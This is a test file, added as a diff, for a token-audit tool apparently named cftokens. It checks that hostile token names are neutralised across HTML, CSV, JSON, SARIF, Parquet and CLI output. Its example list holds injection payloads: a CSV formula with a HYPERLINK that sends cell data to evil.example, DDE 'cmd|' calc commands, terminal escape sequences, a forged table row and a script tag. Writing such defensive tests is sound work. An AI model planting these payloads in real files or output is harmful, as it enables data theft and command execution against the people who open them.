@@ -1,0 +1,191 @@
+"""Hostile token names: whoever holds a token writes its name, and an analyst reads it.
+
+Names drawn from spreadsheet formulas, terminal escapes, matplotlib mathtext, HTML, very long
+and non-BMP text go through the sandbox (created over its API) → the audit → every report
+format and the CLI's table. Invariants: no CSV cell a spreadsheet would run, no control
+character on the terminal, every report written, HTML escaped, names preserved in the JSON.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+from collections.abc import Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+import cftokens as cft
+from cftokens.cli import main
+from cftokens.sandbox import Sandbox
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # newline aside: the CLI prints lines
+
+EXAMPLES = [
+    "$\\foo{$",
+    "$x^{2$",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\x1b[1A\x1b[2Kerased",
+    "\x1b[8mhidden\x1b[0m",
+    "ci\nforged-row  user  critical  99  9999.0",
+    "<script>alert(1)</script>&amp;",
+    "🙂𝔘𝔫𝔦𝔠𝔬𝔡𝔢 \u202etxt.exe",
+    "L" * 119 + "𝔘",  # the longest name a token may have (120 characters), non-BMP last
+]
+
+
+def hostile_sandbox(names: Sequence[str]) -> tuple[Sandbox, Any]:
+    """An empty sandbox and a client whose token created one token per name over the API;
+    each hostile token holds DNS Read on the zone (so it appears on the access heatmap) and
+    has findings (no expiry, no IP condition)."""
+    sb = Sandbox()
+    zone_id = sb.store.zones()[0].id
+    admin = sb.create_token(
+        cft.TokenSpec(
+            name="auditor",
+            policies=[
+                cft.Policy.allow(["API Tokens Write", "User Details Read"], user=sb.user_id),
+                cft.Policy.allow(
+                    ["Account Settings Read", "Account API Tokens Read"], all_accounts=True
+                ),
+                cft.Policy.allow(["Zone Read"], all_zones=True),
+            ],
+        )
+    )
+    client = sb.client(token=admin.secret)
+    for name in names:
+        client.tokens.create(
+            cft.TokenSpec(name=name, policies=[cft.Policy.allow(["DNS Read"], zones=[zone_id])])
+        )
+    return sb, client
+
+
+def check_reports(audit: Any, names: Sequence[str], folder: Path) -> None:
+    """Every format is written; CSV has no formula cell; HTML is escaped; JSON keeps names."""
+    audit.to_html(folder / "report.html")
+    text = (folder / "report.html").read_text(encoding="utf-8")
+    assert "charts not drawn" not in text
+    for name in names:
+        if "<" in name:
+            assert name not in text
+    assert "<script>alert" not in text
+
+    audit.to_json(folder / "report.json")
+    data = json.loads((folder / "report.json").read_text(encoding="utf-8"))
+    listed = {t["token"]["name"] for t in data["inventory"]["tokens"]}
+    assert set(names) <= listed
+    assert set(names) <= {t["name"] for t in data["tokens"]}
+
+    audit.to_sarif(folder / "report.sarif")
+    sarif = json.loads((folder / "report.sarif").read_text(encoding="utf-8"))
+    assert sarif["runs"][0]["results"]
+
+    audit.to_csv(folder / "csv")
+    cells = 0
+    for path in (folder / "csv").glob("*.csv"):
+        with path.open(newline="", encoding="utf-8") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    cells += 1
+                    assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), (
+                        path.name,
+                        cell,
+                    )
+    assert cells
+    try:
+        import pyarrow  # noqa: F401
+    except ImportError:
+        return
+    import pandas as pd
+
+    audit.to_parquet(folder / "parquet")
+    back = pd.read_parquet(folder / "parquet" / "tokens.parquet")
+    assert set(names) <= set(back["name"])
+
+
+def check_cli(
+    names: Sequence[str],
+    sb: Sandbox,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """``cftokens audit --sandbox`` on this sandbox: no control character reaches the
+    terminal, and each table row is one line (no forged rows)."""
+    monkeypatch.setattr(Sandbox, "demo", classmethod(lambda cls, **kw: sb))
+    capsys.readouterr()
+    assert main(["audit", "--sandbox", "--no-progress"]) == 0
+    out, err = capsys.readouterr()
+    for stream in (out, err):
+        assert not CONTROL.search(stream), repr(CONTROL.search(stream))
+    table = out.split("\ntoken ", 1)[1].split("\n\n", 1)[0].splitlines()[1:]
+    assert table and all(re.search(r" (user|account) +\S+ +\d+ +[\d.]+$", row) for row in table)
+    assert "forged-row" not in out or "\\x0aforged-row" in out
+
+
+def test_csv_reports_neutralise_formula_names(tmp_path: Path) -> None:
+    """Every CSV table quotes a formula-looking name (and evidence quoting it); numbers stay
+    numbers."""
+    from audit_helpers import good, run
+
+    audit = run(good('=HYPERLINK("http://evil","x")'), good("@SUM(1)"), good("-2+3+cmd"))
+    audit.to_csv(tmp_path / "csv")
+    with (tmp_path / "csv" / "tokens.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert {r["name"] for r in rows} == {'\'=HYPERLINK("http://evil","x")', "'@SUM(1)", "'-2+3+cmd"}
+    assert all(float(r["risk_score"]) >= 0 and r["n_findings"].isdigit() for r in rows)
+
+
+def test_hostile_names_through_every_report_and_the_cli(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Known attack names: every report is written and none of them acts on its reader."""
+    sb, client = hostile_sandbox(EXAMPLES)
+    audit = cft.audit(client, now=sb.clock.now(), progress=False)
+    assert set(EXAMPLES) <= set(audit.tokens["name"])
+    assert not audit.access_matrix().empty
+    check_reports(audit, EXAMPLES, tmp_path)
+    check_cli(EXAMPLES, sb, monkeypatch, capsys)
+
+
+_PIECES = st.sampled_from(
+    ["=", "+", "-", "@", "\t", "\r", "\n", "\x1b[2K", "\x1b[8m", "\x9b", "\x7f", "\x00", "$",
+     "\\frac{", "^{", "_", "<b>", "&lt;", "'", '"', "🙂", "𝔘", "\u202e", "cmd|", "A1", " "]
+)  # fmt: skip
+NAMES = st.lists(
+    st.builds(
+        lambda parts, tail, repeat: ("".join(parts) + tail) * repeat,
+        st.lists(_PIECES, min_size=1, max_size=6),
+        st.text(min_size=0, max_size=12),
+        st.sampled_from([1, 1, 1, 30]),
+    ).map(lambda s: s[:120] if s.strip() else "x"),
+    min_size=1,
+    max_size=3,
+    unique=True,
+)
+
+
+@pytest.mark.slow
+@settings(max_examples=8, deadline=None, suppress_health_check=list(HealthCheck))
+@given(names=NAMES)
+def test_generated_hostile_names_keep_the_invariants(
+    names: list[str],
+    tmp_path_factory: pytest.TempPathFactory,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """Any mix of formula prefixes, controls, mathtext, HTML, non-BMP and long text keeps the
+    invariants of the known examples."""
+    sb, client = hostile_sandbox(names)
+    audit = cft.audit(client, now=sb.clock.now(), progress=False)
+    check_reports(audit, names, tmp_path_factory.mktemp("hostile"))
+    check_cli(names, sb, monkeypatch, capsys)
